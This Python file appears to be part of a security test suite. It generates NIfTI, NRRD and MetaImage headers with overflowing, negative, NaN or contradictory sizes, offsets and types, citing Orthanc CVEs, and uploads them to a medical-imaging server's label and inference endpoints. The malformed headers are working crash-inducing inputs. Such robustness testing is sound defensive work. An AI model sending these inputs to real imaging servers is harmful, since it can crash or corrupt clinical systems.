"""Image headers whose sizes overflow, contradict each other, or are no numbers (Orthanc: CVE-2026-5442 to 5444).

Each is sent as a label, whose voxels are read, and some as an image.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import numpy as np

from tests.attack.attack import Attack
from tests.attack.samples import CASE, labels, meta_image, nifti, nifti2, nrrd
from tests.attack.targets import Run

_GROUP = "a header whose numbers overflow"
Content = Callable[[], bytes]
_BIG = 2**31


def _nii(**fields: Any) -> Content:
    return lambda: nifti(labels(), packed=False, sform_code=1, **fields)


def _nii2(**fields: Any) -> Content:
    return lambda: nifti2(labels(), **fields)


def _dim(*sizes: int) -> list[int]:
    return [len(sizes), *sizes, *[1] * (7 - len(sizes))]


NIFTI: dict[str, Content] = {
    "2^32 voxels, 0 in 32 bits": _nii(dim=_dim(2048, 2048, 1024)),
    "2^64 voxels, 0 in 64 bits": _nii(dim=_dim(16384, 16384, 16384, 16384, 256)),
    "32767 voxels along each of seven axes": _nii(dim=_dim(*[32767] * 7)),
    "an axis of -48 voxels": _nii(dim=_dim(-48, 56, 48)),
    "two axes of -1 voxels": _nii(dim=_dim(-1, -1, 48)),
    "an axis of no voxels": _nii(dim=_dim(0, 56, 48)),
    "-3 axes": _nii(dim=[-3, 48, 56, 48, 1, 1, 1, 1]),
    "9 axes": _nii(dim=[9, 48, 56, 48, 1, 1, 1, 1]),
    "voxels that begin at 10^30": _nii(vox_offset=1e30),
    "voxels that begin at -10^9": _nii(vox_offset=-1e9),
    "voxels that begin at NaN": _nii(vox_offset=np.nan),
    "voxels that begin at infinity": _nii(vox_offset=np.inf),
    "voxels that begin in the header": _nii(vox_offset=1),
    "voxels of a type that does not exist": _nii(datatype=3, bitpix=8),
    "voxels of no bits": _nii(datatype=0, bitpix=0),
    "voxels of 128 bits": _nii(datatype=1536, bitpix=128),
    "10^38 as the slope": _nii(scl_slope=1e38, scl_inter=1e38),
    "NIfTI-2: 2^62 voxels along an axis": _nii2(dim=_dim(2**62, 1, 1)),
    "NIfTI-2: 2^64 voxels, 0 in 64 bits": _nii2(dim=_dim(2**32, 2**32, 1)),
    "NIfTI-2: 2^63 voxels, negative in 64 bits": _nii2(dim=_dim(2**21, 2**21, 2**21)),
    "NIfTI-2: -2^62 voxels along an axis": _nii2(dim=_dim(-(2**62), 1, 1)),
    "NIfTI-2: voxels that begin at 2^62": _nii2(vox_offset=2**62),
    "NIfTI-2: voxels that begin at -2^62": _nii2(vox_offset=-(2**62)),
}


NRRD: dict[str, Content] = {
    "2^32 voxels, 0 in 32 bits": lambda: nrrd("65536 65536 1"),
    "2^64 voxels, 0 in 64 bits": lambda: nrrd("4294967296 4294967296 1"),
    "2^63 voxels, negative in 64 bits": lambda: nrrd("2097152 2097152 2097152"),
    "2^64 + 48 voxels along an axis": lambda: nrrd("18446744073709551664 56 48"),
    "two axes of less than none": lambda: nrrd("-48 -56 48"),
    "1e3 voxels": lambda: nrrd("1e3 56 48"),
    "NaN voxels": lambda: nrrd("nan 56 48"),
    "fewer sizes than axes": lambda: nrrd("48 56"),
    "10^9 axes": lambda: nrrd(dimension="1000000000"),
    "-1 axes": lambda: nrrd(dimension="-1"),
    "2^63 bytes to skip": lambda: nrrd(more="byte skip: 9223372036854775808\n"),
    "-2 bytes to skip": lambda: nrrd(more="byte skip: -2\n"),
    "2^63 lines to skip": lambda: nrrd(more="line skip: 9223372036854775808\n"),
    "a block of 2^40 bytes per voxel": lambda: nrrd(type="block", more="block size: 1099511627776\n"),
}
META: dict[str, Content] = {
    "2^32 voxels, 0 in 32 bits": lambda: meta_image("65536 65536 1"),
    "2^64 voxels, 0 in 64 bits": lambda: meta_image("4294967296 4294967296 1"),
    "2^63 voxels, negative in 64 bits": lambda: meta_image("2097152 2097152 2097152"),
    "2^64 + 48 voxels along an axis": lambda: meta_image("18446744073709551664 56 48"),
    "two axes of less than none": lambda: meta_image("-48 -56 48"),
    "fewer sizes than axes": lambda: meta_image("48 56"),
    "-4 channels": lambda: meta_image(channels=-4),
    "no channels": lambda: meta_image(channels=0),
    "2^31 channels": lambda: meta_image(channels=_BIG),
    "2^32 + 1 channels": lambda: meta_image(channels=2**32 + 1),
    "-1 byte of compressed voxels": lambda: meta_image(more="CompressedData = True\nCompressedDataSize = -1\n"),
    "2^63 bytes of compressed voxels": lambda: meta_image(
        more="CompressedData = True\nCompressedDataSize = 9223372036854775808\n"
    ),
    "compressed voxels without a size": lambda: meta_image(more="CompressedData = True\n"),
    "voxels that begin at 2^63": lambda: meta_image(more="HeaderSize = 9223372036854775807\n"),
    "voxels that begin at -2^31": lambda: meta_image(more=f"HeaderSize = {-_BIG}\n"),
    "a type that does not exist": lambda: meta_image(type="MET_OTHER"),
    "an array of text as type": lambda: meta_image(type="MET_STRING"),
    "a DICOM file in its place": lambda: bytes(128) + b"DICM" + b"\x02\0\0\0UL\x04\0\xff\xff\xff\xff" + bytes(400),
}


def attacks() -> Iterator[Attack]:
    """Yield the attacks with headers."""
    for kind, ending, headers in (("NIfTI", ".nii", NIFTI), ("NRRD", ".nrrd", NRRD), ("MetaImage", ".mha", META)):
        for what, content in headers.items():
            yield Attack(_GROUP, f"{kind} label: {what}", _label(f"label{ending}", content))
        for what in list(headers)[:3]:
            yield Attack(_GROUP, f"{kind} image: {what}", _image(f"image{ending}", headers[what]))


def _label(name: str, content: Content) -> Run:
    address = f"/datastore/label?image={CASE}&tag=final"
    return lambda target: target.send("PUT", address, files={"label": (name, content())}, timeout=60)


def _image(name: str, content: Content) -> Run:
    form = {"params": "{}"}
    return lambda target: target.send(
        "POST", "/infer/tumorloop", files={"file": (name, content())}, data=form, timeout=60
    )
